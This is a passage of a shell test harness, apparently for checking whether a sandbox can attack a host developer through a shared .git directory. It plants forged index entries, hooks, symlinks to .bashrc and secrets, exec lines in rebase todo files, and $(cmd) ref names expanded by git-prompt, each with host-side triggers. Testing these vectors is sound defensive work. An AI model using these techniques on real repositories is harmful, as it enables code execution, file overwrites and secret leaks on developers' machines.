p_g_gitdirname() { evilgit "$W/dir/.git" "$H/dir/.git" "$H"; }; t_g_gitdirname() { T -C dir status; T -C dir diff; T -C dir commit --allow-empty -qm x; T status; T add -A; TX 'add -A; status' 'git add -A; git status'; }

#--------------------------------------------------------------- E. the index
mkpay() { printf '#!/bin/sh\necho index >>"%s"\n' "$C" | blob; }
V i_hook x INDEX 'forged index entry .git/hooks/post-checkout'
p_i_hook() { py idx "$W/.git/index" "100755,$(mkpay),.git/hooks/post-checkout"; }; t_i_hook() { all; T checkout .; T checkout-index -a -f; T checkout -f main; }
V i_config x INDEX 'forged index entry .git/config'
p_i_config() { local b; b=$({ cat "$W/.git/config"; EV; } | blob); py idx "$W/.git/index" "100644,$b,.git/config"; }; t_i_config() { TX 'restore .; status' 'git restore .; git status'; TX 'checkout -- .; status' 'git checkout -- .; git status'; TX 'stash; status' 'git stash; git status'; TX 'reset --hard; status' 'git reset --hard; git status'; }
V i_outside w INDEX 'forged index entry ../home/.bashrc or absolute path'
p_i_outside() { py idx "$W/.git/index" "100644,$(mkpay),../home/.bashrc" "100755,$(mkpay),$B/outside/new"; }; t_i_outside() { all; T checkout .; T rm -rqf --ignore-unmatch .; T mv -k ../home z; }
V i_leak l INDEX 'forged index entry ../outside/secret: content is read into the object store'
p_i_leak() { py idx "$W/.git/index" "100644,$(mkpay),../outside/secret"; }; t_i_leak() { all; T add -u; T add .; T commit -qm x; }
V i_fd x INDEX 'same, but the entry is written through an fd kept across the rename of index.lock'
p_i_fd() { py idxfd "$W/.git/index" "100755,$(mkpay),.git/hooks/post-checkout"; }; t_i_fd() { T restore .; }
V i_split x INDEX 'same, entry hidden in a sharedindex.* (split index)'
p_i_split() { py split "$W/.git/index" "100755,$(mkpay),.git/hooks/post-checkout"; }; t_i_split() { T restore .; T ls-files; }
V i_lockrace x INDEX "index.lock the HOST holds during commit -a (editor open) is rewritten by the sandbox"
KEEP_i_lockrace=1
p_i_lockrace() { mkpay >"$W/.v/sha"; }; t_i_lockrace() { TX 'commit -a (editor open); restore .' 'printf "#!/bin/sh\nbash \"$SELF\" py idxraw \"$VIEW/.git/index.lock\" 100755,$(cat .v/sha),.git/hooks/post-checkout\necho m>\$1\n" >$B/home/bin/ed; chmod +x $B/home/bin/ed; EDITOR=$B/home/bin/ed git commit -a; git restore .'; }
V i_rm w INDEX 'forged entry ../home/.bashrc: git rm / clean / checkout / mv on outside files'
p_i_rm() { local b; b=$(cat "$B/home/.bashrc" | blob); py idx "$W/.git/index" "100644,$b,../home/.bashrc"; }; t_i_rm() { T rm -rqf .; T checkout -fq topic; T reset -q --hard; T stash; T clean -fdx; T mv -k ../home z; T rm -q --cached -r .; }
V i_worktree x INDEX 'worktrees/<id>/index of a linked worktree'
p_i_worktree() { py idx "$W/.git/worktrees/wt/index" "100755,$(mkpay),../ws/.git/hooks/post-checkout"; }; t_i_worktree() { T -C "$B/wt" restore .; }
V i_module x INDEX '.git/modules/<m>/index'
p_i_module() { local b; b=$(printf '#!/bin/sh\necho index >>"%s"\n' "$C" | git --git-dir="$W/.git/modules/sub" hash-object -w --stdin); py idx "$W/.git/modules/sub/index" "100755,$b,../.git/hooks/post-index-change"; }; t_i_module() { TX '-C sub restore .; status' 'git -C sub restore .; touch a.txt; git status'; TX 'submodule update --force; status' 'git submodule update --force; touch a.txt; git status'; }
V i_gitlink_hooks x INDEX 'gitlink forged at .git/hooks + .gitmodules: submodule update --init checks out there'
p_i_gitlink_hooks() { printf '[submodule "x"]\n\tpath = .git/hooks\n\turl = %s/evil-sub.git\n' "$B" >>"$W/.gitmodules"; py idx "$W/.git/index" "160000,$(git -C "$B/evil-sub.git" rev-parse main),.git/hooks"; rm -rf "$W/.git/hooks"; }
h_i_gitlink_hooks() { (mkdir "$B/es" && cd "$B/es" && git init -q -b main && cp "$B/home/payload" post-checkout && cp "$B/home/payload" post-index-change && sed -i "s,@C@,$C,;s,@T@,gitlink," post-* && chmod +x post-* && git add . && git commit -qm e && git clone -q --bare . "$B/evil-sub.git") >/dev/null 2>&1; }
t_i_gitlink_hooks() { TX 'submodule update --init; status' 'git -c protocol.file.allow=always submodule update --init; touch a.txt; git status; git checkout -qf topic'; }
V i_gitlink_out w INDEX 'gitlink forged at ../home/x: submodule update clones outside the tree'
p_i_gitlink_out() { printf '[submodule "x"]\n\tpath = ../home/x\n\turl = %s/sub-up.git\n' "$B" >>"$W/.gitmodules"; py idx "$W/.git/index" "160000,$(git -C "$B/sub-up.git" rev-parse main),../home/x"; }; t_i_gitlink_out() { T -c protocol.file.allow=always submodule update --init; T status; }
V i_assume d INDEXFLAGS 'assume-unchanged / skip-worktree bits: edits invisible to status/diff/commit -a'
p_i_assume() { git -C "$W" update-index --assume-unchanged a.txt; git -C "$W" update-index --skip-worktree dir/b.txt; echo evil >>"$W/a.txt"; echo evil >>"$W/dir/b.txt"; }; t_i_assume() { T status --porcelain; T diff --stat; }
k_i_assume() { grep -q 'a.txt\|b.txt' "$B/out" || echo 'FAKE(edit not shown)'; }
V i_statmatch d INDEXFLAGS 'stat data in the index matches an edited file: edit invisible'
p_i_statmatch() { local m; m=$(stat -c %Y "$W/a.txt"); touch -d "2020-01-01" "$W/a.txt"; git -C "$W" update-index --refresh >/dev/null; sed -i 's/./Z/' "$W/a.txt" 2>/dev/null; touch -d "2020-01-01" "$W/a.txt"; git -C "$W" -c core.trustctime=false -c core.checkStat=minimal status >/dev/null; }; t_i_statmatch() { T -c core.trustctime=false -c core.checkStat=minimal status --porcelain; T status --porcelain; }
k_i_statmatch() { grep -q 'a.txt' "$B/out" || echo 'FAKE(edit not shown)'; }
V i_staged d REPORT 'extra content staged: goes into the next commit without -a'
p_i_staged() { echo evil >"$W/hidden.sh"; git -C "$W" add hidden.sh; rm "$W/hidden.sh"; }; t_i_staged() { T commit -qm m; }
k_i_staged() { git -C "$H" cat-file -e HEAD:hidden.sh 2>/dev/null && echo 'FAKE(committed)'; }

#--------------------------------------------------------------- F. objects, trees, refs
V t_evil_checkout n - 'commit whose tree contains .git/hooks/*: git verifies tree paths'
p_t_evil_checkout() { eviltree .git; }; t_t_evil_checkout() { T checkout -f evil; T merge evil; T cherry-pick evil; T restore --source=evil .; T checkout evil -- .; T stash apply evil; T worktree add -q "$B/wt2" evil; T rebase --autostash evil; T reset -q --hard evil; T read-tree -u --reset evil; T archive evil; TX 'push evil; clone' 'git push -q origin evil; git clone -q -b evil $B/remote.git $B/cl'; T sparse-checkout set dir; }
V t_evil_case n - 'tree contains .GIT/hooks (case-sensitive fs)'
p_t_evil_case() { eviltree .GIT; }; t_t_evil_case() { T checkout -f evil; T restore --source=evil .; }
V t_evil_dotdot n - 'tree entry named ..'
p_t_evil_dotdot() { eviltree ..; }; t_t_evil_dotdot() { T checkout -f evil; T restore --source=evil .; T merge evil; T archive evil; }
V t_evil_slash n - 'tree entry named .git/hooks/post-checkout (slash inside a name)'
p_t_evil_slash() { local b t c; b=$(mkpay); t=$(cd "$W" && py tree "100755,$b,.git/hooks/post-checkout" "100755,$b,../home/.bashrc"); c=$(git -C "$W" -c user.name=a -c user.email=a@a commit-tree -p HEAD -m e $t); echo $c >"$W/.git/refs/heads/evil"; }; t_t_evil_slash() { T checkout -f evil; T restore --source=evil .; T merge evil; T cherry-pick evil; T stash apply evil; T reset -q --hard evil; }
V t_bare_commit x TREEREPORT 'a COMMIT whose tree holds a bare look-alike: the host checks it out itself, then works in that directory'
p_t_bare_commit() { local d=$B/canary/.lk; rm -rf "$d" 2>/dev/null; d=$(mktemp -d); mkdir -p "$d/docs/objects" "$d/docs/refs/heads"; cp "$W/.git/HEAD" "$d/docs/HEAD"; touch "$d/docs/objects/k" "$d/docs/refs/heads/k"; { printf '[core]\nrepositoryformatversion=0\nbare=false\nworktree=%s\n' "$H"; EV; } >"$d/docs/config"; mkhooks "$d/docs/hooks"
  local c; c=$(cd "$d" && export GIT_DIR="$W/.git" GIT_INDEX_FILE="$d/.idx" GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a && git --work-tree="$d" read-tree main && git --work-tree="$d" add docs && git commit-tree -p main -m evil "$(git write-tree)"); echo "$c" >"$W/.git/refs/heads/evil"; }
t_t_bare_commit() { TX 'merge evil; cd docs; status' 'git merge -q evil; cd docs && git status'; TX 'safe.bareRepository=explicit: merge evil; cd docs; status' 'git config --global safe.bareRepository explicit; git merge -q evil; cd docs && git status'; TX 'merge evil; status' 'git merge -q evil; git status'; }
V t_inc_commit x TREEREPORT 'a COMMIT that changes a tracked file the host config includes (include.path=../.gitconfig) or runs (filter, hook)'
h_t_inc_commit() { h_h_incfile; }
p_t_inc_commit() { local b c d; d=$(mktemp -d); b=$(EV | git -C "$W" hash-object -w --stdin); c=$(cd "$d" && export GIT_DIR="$W/.git" GIT_INDEX_FILE="$d/.idx" GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a && git read-tree main && git update-index --add --cacheinfo 100644,$b,.gitconfig && git commit-tree -p main -m evil "$(git write-tree)"); echo "$c" >"$W/.git/refs/heads/evil"; }; t_t_inc_commit() { TX 'merge evil; status' 'git merge -q evil; git status'; T status; }
V o_alternates l ALTERNATES "alternates -> another repository of the developer + a ref to its commit: host git copies private objects"
p_o_alternates() { echo "$B/outside/vic/.git/objects" >>"$W/.git/objects/info/alternates"; echo "$VICSHA" >"$W/.git/refs/heads/priv"; }; t_o_alternates() { T gc -q; T repack -qad; T checkout -fq priv; T push -q origin priv; T status; T fetch -q; T merge -q --allow-unrelated-histories priv; }
k_o_alternates() { GIT_ALTERNATE_OBJECT_DIRECTORIES= git -C "$B/remote.git" cat-file -e "$VICSHA" 2>/dev/null && echo 'LEAK(pushed to remote)'; }
V o_alternates_cfg n ALTERNATES 'alternates -> hostile in-tree repository: its config/hooks do not run'
p_o_alternates_cfg() { nested "$W/.v/n"; printf '[core]\n\tpager=%s\n[alias]\n\tfor-each-ref = !%s\n' "$X" "$X" >>"$W/.v/n/.git/config"; echo "$H/.v/n/.git/objects" >>"$W/.git/objects/info/alternates"; }; t_o_alternates_cfg() { T fetch -q; T pull -q --no-rebase; T push -q origin main:nb; T gc -q; }
V o_midx_del w MIDX "pack names with ../ inside multi-pack-index: maintenance/expire unlinks another repository's pack"
p_o_midx_del() { git -C "$W" repack -qad; git -C "$W" multi-pack-index write; local p; p=$(cd "$B/outside/vic/.git/objects/pack" && ls *.idx | head -1); local i; py midx "$W/.git/objects/pack/multi-pack-index" "../../../../outside/vic/.git/objects/pack/$p"; rm -f "$W"/.git/objects/pack/pack-*.mtimes; }; t_o_midx_del() { T multi-pack-index expire; T maintenance run --task=incremental-repack; T gc -q; T repack -qad --write-midx; T status; T log -1; T multi-pack-index repack; }
V o_midx_read l MIDX "pack names with ../ inside multi-pack-index: other repository's objects become readable and are copied"
p_o_midx_read() { local p; p=$(cd "$B/outside/vic/.git/objects/pack" && ls *.idx | head -1); mkdir -p "$W/.git/objects/pack"; cp "$B/outside/vic.midx" "$W/.git/objects/pack/multi-pack-index"; chmod u+w "$W/.git/objects/pack/multi-pack-index"; py midx "$W/.git/objects/pack/multi-pack-index" "../../../../outside/vic/.git/objects/pack/$p"; echo "$VICSHA" >"$W/.git/refs/heads/priv"; }
t_o_midx_read() { T checkout -fq priv; T repack -qad; T push -q origin priv; T log -1 priv; }
k_o_midx_read() { git -C "$B/remote.git" cat-file -e "$VICSHA" 2>/dev/null && echo 'LEAK(pushed to remote)'; }
V o_replace d REPLACE 'refs/replace: log/show/diff/checkout show other content'
p_o_replace() { local a b; a=$(git -C "$W" rev-parse HEAD:a.txt); b=$(echo REPLACED | blob); mkdir -p "$W/.git/refs/replace"; echo $b >"$W/.git/refs/replace/$a"; }; t_o_replace() { T show HEAD:a.txt; T archive HEAD a.txt; }
k_o_replace() { grep -qa REPLACED "$B/out" && echo 'FAKE(content)'; }
V o_grafts d REPLACE 'info/grafts, shallow: history looks different'
p_o_grafts() { git -C "$W" rev-parse HEAD >"$W/.git/info/grafts"; }; t_o_grafts() { T rev-list --count HEAD; }
k_o_grafts() { grep -qx 1 "$B/out" && echo 'FAKE(history)'; }
V o_loose d OBJECTS 'loose object holds content that does not match its name'
p_o_loose() { local a; a=$(git -C "$W" rev-parse topic:t.txt); local f="$W/.git/objects/${a:0:2}/${a:2}"; chmod u+w "$f"; rm -f "$f"; $PY -c "import zlib,sys;open(sys.argv[1],'wb').write(zlib.compress(b'blob 8\0REPLACED'))" "$f"; }; t_o_loose() { T show topic:t.txt; T checkout -q topic; T fsck; }
k_o_loose() { grep -qa REPLACED "$B/out" "$H/t.txt" 2>/dev/null && echo 'FAKE(content)'; }
V o_refmove d REFS 'branch/tag/remote-tracking refs moved: pushed, merged, checked out later'
p_o_refmove() { local c; c=$(git -C "$W" -c user.name=a -c user.email=a@a commit-tree -p main -m evil 'main^{tree}'); echo $c >"$W/.git/refs/heads/main"; }; t_o_refmove() { TX 'pull; push' 'git pull -q --no-rebase; git push -q origin main'; T push -qf origin main; }
k_o_refmove() { git -C "$B/remote.git" log --format=%s main | grep -q evil && echo 'FAKE(pushed)'; }
V o_refname n - 'ref named $(cmd) / --option: prompt, completion, git itself'
p_o_refname() { mkdir -p "$W/.git/refs/heads"; local n='$(touch${IFS}'"${C//\//\$\{PWD:0:1\}}"')'; n='$('"sh<.v\${PWD:0:1}r"')'; printf 'echo ref >>%s\n' "$C" >"$W/.v/r"; mkdir -p "$(dirname "$W/.git/refs/heads/$n")"; cp "$W/.git/refs/heads/main" "$W/.git/refs/heads/x\$(sh<\${PWD}.v.r)" 2>/dev/null; cp "$W/.v/r" "$W/r"; git -C "$W" update-ref 'refs/heads/x$(sh<r)' main; git -C "$W" update-ref 'refs/heads/--upload-pack=sh' main; echo 'ref: refs/heads/x$(sh<r)' >"$W/.git/HEAD"; }
t_o_refname() { T status; T branch; T fetch -q; T push -q --all; T checkout -q -; TX 'prompt PS1=$(__git_ps1)' '. $VEC_PROMPT; PS1='\''$(__git_ps1 " (%s)")'\''; x="${PS1@P}"; echo "$x"'; pcprompt
  TX 'completion: git checkout <TAB>' '. /usr/share/bash-completion/completions/git; COMP_WORDS=(git checkout ""); COMP_CWORD=2; COMP_LINE="git checkout "; COMP_POINT=13; __git_func_wrap __git_main; echo "${COMPREPLY[@]}"'; TX 'completion: git log x<TAB>' '. /usr/share/bash-completion/completions/git; cur=x; COMP_WORDS=(git log x); COMP_CWORD=2; __git_func_wrap __git_main; echo "${COMPREPLY[@]}"'; }
V o_headpath n - 'HEAD / symref pointing outside refs/ (../../..)'
p_o_headpath() { echo 'ref: refs/heads/../../../../home/.bashrc' >"$W/.git/HEAD"; }; t_o_headpath() { T commit -qam x; T status; T checkout -q topic; }
V o_remotesfile d LEGACYREMOTE '.git/remotes/<name> or branches/<name>: legacy remote definition without config'
h_o_remotesfile() { git -C "$H" remote remove origin; }
p_o_remotesfile() { git init -q --bare "$W/.v/evil.git" 2>/dev/null; mkdir -p "$W/.git/remotes"; printf 'URL: %s/.v/evil.git\nPush: refs/heads/*:refs/heads/*\n' "$H" >"$W/.git/remotes/origin"; }; t_o_remotesfile() { T push -q; T push -q origin; T fetch -q; T pull -q; }
k_o_remotesfile() { [ -n "$(ls "$H"/.v/evil.git/refs/heads 2>/dev/null)" ] && echo 'FAKE(push went to attacker)'; }
V o_remotesfile_ext n LEGACYREMOTE '.git/remotes/origin with ext:: or foo:: URL'
h_o_remotesfile_ext() { git -C "$H" remote remove origin; }
p_o_remotesfile_ext() { mkdir -p "$W/.git/remotes"; printf 'URL: ext::%s\n' "$X" >"$W/.git/remotes/origin"; }; t_o_remotesfile_ext() { T fetch -q; T push -q; T pull -q; }
V o_fetchhead d REFS 'FETCH_HEAD / ORIG_HEAD / stash rewritten'
p_o_fetchhead() { local c; c=$(git -C "$W" -c user.name=a -c user.email=a@a commit-tree -p main -m evilfetch 'main^{tree}'); echo "$c		branch 'x' of y" >"$W/.git/FETCH_HEAD"; }; t_o_fetchhead() { T merge -q FETCH_HEAD; }
k_o_fetchhead() { git -C "$H" log -1 --format=%s | grep -q evilfetch && echo 'FAKE(merged)'; }

#--------------------------------------------------------------- G. symlinks and special files inside a gitdir
V s_logs x NOSYMLINK '.git/logs/HEAD -> shell start-up file: reflog line with attacker text is appended and later sourced'
p_s_logs() { local c; c=$(printf 'x;echo reflog >>%s;\n' "$C" | git -C "$W" -c user.name=a -c user.email=a@a commit-tree -p topic -F - 'topic^{tree}'); echo $c >"$W/.git/refs/heads/topic"; rm -f "$W/.git/logs/HEAD"; ln -s ../../../home/.bashrc "$W/.git/logs/HEAD"; }; t_s_logs() { TX 'cherry-pick topic; new shell' 'git cherry-pick --allow-empty topic; bash --rcfile $HOME/.bashrc -i -c true'; T commit -qam m; T checkout -q topic; T pull -q --no-rebase; }
V s_editmsg w NOSYMLINK 'COMMIT_EDITMSG -> outside file'
p_s_editmsg() { ln -sfn ../../home/.bashrc "$W/.git/COMMIT_EDITMSG"; }; t_s_editmsg() { T commit -qam 'touch /x'; T merge --no-ff -q topic; }
V s_fetchhead w NOSYMLINK 'FETCH_HEAD -> outside file'
p_s_fetchhead() { ln -sfn ../../home/.bashrc "$W/.git/FETCH_HEAD"; }; t_s_fetchhead() { T fetch -q; T pull -q --no-rebase; }
V s_mergemsg_w w NOSYMLINK 'MERGE_MSG/MERGE_HEAD/ORIG_HEAD/AUTO_MERGE -> outside file'
p_s_mergemsg_w() { local f; for f in MERGE_MSG MERGE_HEAD MERGE_MODE ORIG_HEAD AUTO_MERGE CHERRY_PICK_HEAD SQUASH_MSG TAG_EDITMSG description; do ln -sfn ../../home/.bashrc "$W/.git/$f"; done; }; t_s_mergemsg_w() { T merge conf; T cherry-pick conf; T merge --squash topic; T tag -a -m x tt; T reset -q HEAD~1; T revert --no-edit HEAD; T rebase -q --autostash conf; }
V s_index w NOSYMLINK '.git/index -> outside file (lock and rename follow the link)'
p_s_index() { cp "$W/.git/index" "$W/.v/i"; rm -f "$W/.git/index"; ln -s ../../home/.bashrc "$W/.git/index"; }; t_s_index() { T status; T add -A; T reset -q; T read-tree HEAD; }
V s_config_w w NOSYMLINK '.git/packed-refs, shallow, config.worktree -> outside'
p_s_config_w() { rm -f "$W/.git/packed-refs"; ln -s ../../home/.bashrc2 "$W/.git/packed-refs"; }; t_s_config_w() { T pack-refs --all; T gc -q; }
V s_refsdir w NOSYMLINK 'refs/heads/d -> outside directory: ref files created there'
p_s_refsdir() { ln -s ../../../../home "$W/.git/refs/heads/d"; ln -s ../../../../../home "$W/.git/logs/refs/heads/d" 2>/dev/null; }; t_s_refsdir() { T branch d/newref; T fetch -q origin main:d/x; T branch; T pack-refs --all; T gc -q; }
V s_pack w NOSYMLINK "objects/pack -> another repository's pack directory: gc rewrites/deletes its packs, explodes its objects into the tree"
p_s_pack() { git -C "$W" unpack-objects </dev/null 2>/dev/null; rm -rf "$W/.git/objects/pack"; ln -s ../../../outside/vic/.git/objects/pack "$W/.git/objects/pack"; }; t_s_pack() { T gc -q; T repack -qad; T status; T fetch -q; T repack -qAd; T gc --auto; }
V s_mergemsg_l l NOSYMLINK 'MERGE_MSG / SQUASH_MSG -> secret file: becomes the commit message'
p_s_mergemsg_l() { ln -sfn ../../outside/secret "$W/.git/SQUASH_MSG"; }; t_s_mergemsg_l() { T commit -qa --no-edit; T commit -a; TX 'commit -a, editor saves' 'EDITOR="sh -c \"echo x>>\\\$1\" -" git commit -a'; }
V s_info x NOSYMLINK 'modules (or info, worktrees, rr-cache) replaced by a symlink to an in-tree directory'
p_s_info() { mkdir -p "$W/.v/mod"; cp -a "$W/.git/modules/sub" "$W/.v/mod/sub"; EV >>"$W/.v/mod/sub/config"; mv "$W/.git/modules" "$W/.v/oldmod"; ln -s ../.v/mod "$W/.git/modules"; }; t_s_info() { T status; T -C sub status; }
V s_fifo s NOSPECIAL 'FIFO in place of HEAD/MERGE_MSG/index: host git hangs'
p_s_fifo() { mkfifo "$W/.git/MERGE_HEAD" "$W/.git/info/grafts" "$W/.git/info/attributes" 2>/dev/null; }; t_s_fifo() { VEC_TIMEOUT=3 T status; VEC_TIMEOUT=3 T commit -qam m; VEC_TIMEOUT=3 T log -1; }
k_s_fifo() { [ $RC = 124 ] && echo 'DOS(hang)'; }
V s_lock s LOCKS 'left-over index.lock / config.lock / HEAD.lock / gc.pid'
p_s_lock() { touch "$W/.git/index.lock" "$W/.git/HEAD.lock" "$W/.git/config.lock"; }; t_s_lock() { T add -A; T commit -qam m; T config user.z 1; }
k_s_lock() { [ $RC != 0 ] && echo "DOS(rc=$RC)"; }

#--------------------------------------------------------------- H. operation state left in the gitdir
V r_todo_exec x OPSTATE 'exec line added to git-rebase-todo of a rebase the HOST started'
h_r_todo_exec() { (cd "$H" && git stash -q && git checkout -qb rb && GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~2) >/dev/null 2>&1; }
p_r_todo_exec() { printf 'exec %s\n' "$X" | cat - "$W/.git/rebase-merge/git-rebase-todo" >"$W/.v/todo"; cat "$W/.v/todo" >"$W/.git/rebase-merge/git-rebase-todo"; }; t_r_todo_exec() { T rebase --continue; T rebase --skip; T rebase --abort; T rebase --quit; T status; TX 'rebase --edit-todo' 'GIT_SEQUENCE_EDITOR=true git rebase --edit-todo'; T commit --amend --no-edit -q; T checkout -q topic; T stash; }
V r_todo_forged x OPSTATE 'whole rebase-merge/ forged or left half-way by the sandbox'
p_r_todo_forged() { local d="$W/.git/rebase-merge"; mkdir -p "$d"; echo refs/heads/main >"$d/head-name"; git -C "$W" rev-parse HEAD >"$d/orig-head"; git -C "$W" rev-parse HEAD >"$d/onto"; : >"$d/interactive"; printf 'exec %s\n' "$X" >"$d/git-rebase-todo"; cp "$d/git-rebase-todo" "$d/git-rebase-todo.backup"; : >"$d/done"; echo 1 >"$d/msgnum"; echo 1 >"$d/end"; git -C "$W" stash -q 2>/dev/null; }; t_r_todo_forged() { T rebase --continue; T rebase --skip; T rebase --abort; T status; T pull -q --rebase; T rebase -q topic; T commit --allow-empty -qm m; }
V r_todo_strategy n OPSTATE 'rebase-merge/strategy = foo (external merge-foo), gpg_sign_opt'
p_r_todo_strategy() { p_r_todo_forged; echo "pick $(git -C "$W" rev-parse topic) x" >"$W/.git/rebase-merge/git-rebase-todo"; echo foo >"$W/.git/rebase-merge/strategy"; mkdir -p "$W/bin"; cp "$W/.v/x" "$W/git-merge-foo"; }; t_r_todo_strategy() { T rebase --continue; }
V r_seq_todo n OPSTATE 'exec in .git/sequencer/todo'
p_r_seq_todo() { mkdir -p "$W/.git/sequencer"; printf 'exec %s\n' "$X" >"$W/.git/sequencer/todo"; git -C "$W" rev-parse HEAD >"$W/.git/sequencer/head"; git -C "$W" rev-parse topic >"$W/.git/CHERRY_PICK_HEAD"; }; t_r_seq_todo() { T cherry-pick --continue; T cherry-pick --skip; T revert --continue; T commit --allow-empty -qm m; T status; T cherry-pick --abort; }
V r_am n OPSTATE 'forged rebase-apply (git am / rebase --apply state), shell in author-script'
p_r_am() { local d="$W/.git/rebase-apply"; mkdir -p "$d"; echo 1 >"$d/next"; echo 1 >"$d/last"; : >"$d/applying"; for f in utf8 keep sign scissors quiet threeway messageid; do echo f >"$d/$f"; done; printf "GIT_AUTHOR_NAME='a'\nGIT_AUTHOR_EMAIL='\$(%s)'\nGIT_AUTHOR_DATE='@1 +0000';%s\n" "$X" "$X" >"$d/author-script"; echo m >"$d/final-commit"; git -C "$W" rev-parse HEAD >"$d/abort-safety"; : >"$d/0001"; : >"$d/patch"; echo '' >"$d/apply-opt"; }; t_r_am() { T am --continue; T am --skip; T am --abort; T rebase --continue; T status; T commit -qam m; }
V r_prompt x OPSTATE 'rebase-merge/end = $(cmd): git-prompt.sh in PROMPT_COMMAND mode expands it at every prompt'
p_r_prompt() { mkdir -p "$W/.git/rebase-merge"; echo refs/heads/main >"$W/.git/rebase-merge/head-name"; echo 1 >"$W/.git/rebase-merge/msgnum"; echo '$('"$X"')' >"$W/.git/rebase-merge/end"; }; t_r_prompt() { pcprompt; TX 'prompt PS1=$(__git_ps1)' '. $VEC_PROMPT; PS1='\''$(__git_ps1 " (%s)")'\''; x="${PS1@P}"; echo "$x"'; T status; }
V r_prompt2 x OPSTATE 'same through rebase-apply/{next,last}'
p_r_prompt2() { mkdir -p "$W/.git/rebase-apply"; echo 1 >"$W/.git/rebase-apply/next"; echo '$('"$X"')' >"$W/.git/rebase-apply/last"; }; t_r_prompt2() { pcprompt; }
V r_prompt_zero x OPSTATE 'same in a bare look-alike / worktrees/<id>/rebase-merge (linked worktree elsewhere)'
p_r_prompt_zero() { mkdir -p "$W/.git/worktrees/wt/rebase-merge"; echo 1 >"$W/.git/worktrees/wt/rebase-merge/msgnum"; echo '$('"$X"')' >"$W/.git/worktrees/wt/rebase-merge/end"; }; t_r_prompt_zero() { TX 'prompt (PROMPT_COMMAND) in the other worktree' 'cd $B/wt; printf "%s\n" ". $VEC_PROMPT" "PROMPT_COMMAND='\''__git_ps1 u w'\''" true true exit | script -qec "bash --norc --noprofile -i" /dev/null'; }
V r_bisect n OPSTATE 'BISECT_{START,NAMES,TERMS,LOG,EXPECTED_REV} with shell text / options'
p_r_bisect() { local g="$W/.git"; git -C "$W" rev-parse main >"$g/BISECT_START"; printf "%s\n" "\$($X)" "';$X;'" >"$g/BISECT_NAMES"; printf 'bad;%s\n$(%s)\n' "$X" "$X" >"$g/BISECT_TERMS"; printf "git bisect start\n%s\n\$(%s)\n" "$X" "$X" >"$g/BISECT_LOG"; echo "\$($X)" >"$g/BISECT_EXPECTED_REV"; echo '--upload-pack=x' >"$g/BISECT_START"; : >"$g/BISECT_ANCESTORS_OK"; echo "$X" >"$g/BISECT_RUN"; }; t_r_bisect() { T bisect good; T bisect bad; T bisect log; T bisect next; T bisect visualize --oneline; T bisect reset; T bisect replay .git/BISECT_LOG; T status; T checkout -q topic; T bisect run true; pcprompt; }
V r_mergehead d OPSTATE 'MERGE_HEAD/MERGE_MSG planted: the next commit silently becomes a merge of attacker history'
p_r_mergehead() { git -C "$W" rev-parse topic >"$W/.git/MERGE_HEAD"; echo planted >"$W/.git/MERGE_MSG"; : >"$W/.git/MERGE_MODE"; }; t_r_mergehead() { T commit -qam m; T commit -qa --no-edit; }
k_r_mergehead() { [ "$(git -C "$H" rev-list --parents -1 HEAD | wc -w)" = 3 ] && echo 'FAKE(merge commit)'; }
V r_rerere_leak l RERERE 'rr-cache + MERGE_RR naming an outside path: next commit copies that file into rr-cache'
p_r_rerere_leak() { local i=1111111111111111111111111111111111111111; mkdir -p "$W/.git/rr-cache/$i"; echo x >"$W/.git/rr-cache/$i/preimage"; printf '%s\t../outside/secret\0' $i >"$W/.git/MERGE_RR"; }; t_r_rerere_leak() { T commit -qam m; T merge conf; T cherry-pick conf; T rebase -q --autostash topic; T rerere; T status; T checkout -q topic; T am -q "$B/patch"; T revert --no-edit HEAD; T stash; T merge -q topic; T gc -q; }
V r_rerere_write w RERERE 'rr-cache pre/postimage of a known dotfile + MERGE_RR: next commit rewrites $HOME/.bashrc'
p_r_rerere_write() { local i=1111111111111111111111111111111111111111 d; d="$W/.git/rr-cache/$i"; mkdir -p "$d"; cp "$B/home/.bashrc.skel" "$d/preimage"; { echo "echo rerere >>$C"; cat "$B/home/.bashrc.skel"; } >"$d/postimage"; printf '%s.-1\t../home/.bashrc\0' $i >"$W/.git/MERGE_RR"; }; t_r_rerere_write() { T commit -qam m; T rerere; T merge conf; TX 'commit; new shell' 'git commit -qam m; bash --rcfile $HOME/.bashrc -i -c true'; }
V r_rrcache d RERERE 'rr-cache directory enables rerere; attacker resolution replayed at the next conflict'
p_r_rrcache() { mkdir -p "$W/.git/rr-cache"; ( cd "$W" && export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a; git merge -q conf; echo PLANTED >a.txt; git rerere; git reset -q --merge ) >/dev/null 2>&1; }; t_r_rrcache() { T merge conf; T rebase --autostash conf; }
k_r_rrcache() { grep -q PLANTED "$H/a.txt" 2>/dev/null && echo 'FAKE(resolution replayed)'; }
V r_gclog d HARMLESS 'gc.log / gc.pid text shown or gc refused'
p_r_gclog() { printf 'planted \033]0;x\007 text\n' >"$W/.git/gc.log"; }; h_r_gclog() { (cd "$H" && git repack -q && git commit -q --allow-empty -m p && git repack -q) >/dev/null 2>&1; }; t_r_gclog() { T -c gc.autoPackLimit=1 -c gc.autoDetach=true gc --auto; }
k_r_gclog() { grep -qa planted "$B/out" && echo 'FAKE(text shown)'; }
V r_autostash d OPSTATE 'MERGE_AUTOSTASH: applied at the next commit that concludes a merge'
p_r_autostash() { git -C "$W" rev-parse topic >"$W/.git/MERGE_HEAD"; local b t s; s=$(cd "$W" && echo AUTO >z9 && git add z9 && git -c user.name=a -c user.email=a@a stash create); git -C "$W" reset -q z9 2>/dev/null; rm -f "$W/z9"; echo $s >"$W/.git/MERGE_AUTOSTASH"; }; t_r_autostash() { T commit -qam m; }
k_r_autostash() { [ -e "$H/z9" ] && echo 'FAKE(stash applied)'; }
V r_instaweb n REPORT '.git/gitweb/* used by git instaweb'
p_r_instaweb() { mkdir -p "$W/.git/gitweb"; echo "system('$X');" >"$W/.git/gitweb/gitweb_config.perl"; echo '#' >"$W/.git/gitweb/httpd.conf"; }; t_r_instaweb() { T instaweb --start; }
V r_fsmsock n NOSPECIAL '.git/fsmonitor--daemon.ipc socket'
p_r_fsmsock() { py sock "$W/.git/fsmonitor--daemon.ipc"; }; t_r_fsmsock() { T status; }

